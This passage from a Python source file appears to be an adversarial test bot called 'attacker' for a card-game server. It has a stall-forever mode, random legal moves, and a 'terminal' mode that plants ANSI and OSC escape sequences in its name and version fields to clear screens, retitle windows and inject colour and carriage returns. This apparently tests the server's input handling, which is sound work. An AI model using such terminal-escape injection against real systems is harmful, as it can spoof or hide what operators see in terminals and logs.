            ctx.hand = list(request.observation.hand)
            mode.late(ctx)
            if not mode.plays:
                sleep_forever()
        choice: pb.Action = rng.choice(request.legal_actions)
        return choice

    name = "attacker"
    version = "1.0"
    if mode_name == "terminal":
        name = f"attacker\x1b]0;{ctx.mark}\x07\x1b[2J"
        version = f"1.0\x1b[31m{ctx.mark}\r\n"
    code = run_bot(decide, name, version, on_message=on_message, connect_timeout=60)
    print(f"ATTACKER done: {decisions[0]} decisions, exit {code}", flush=True)
    return code


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else "play"))
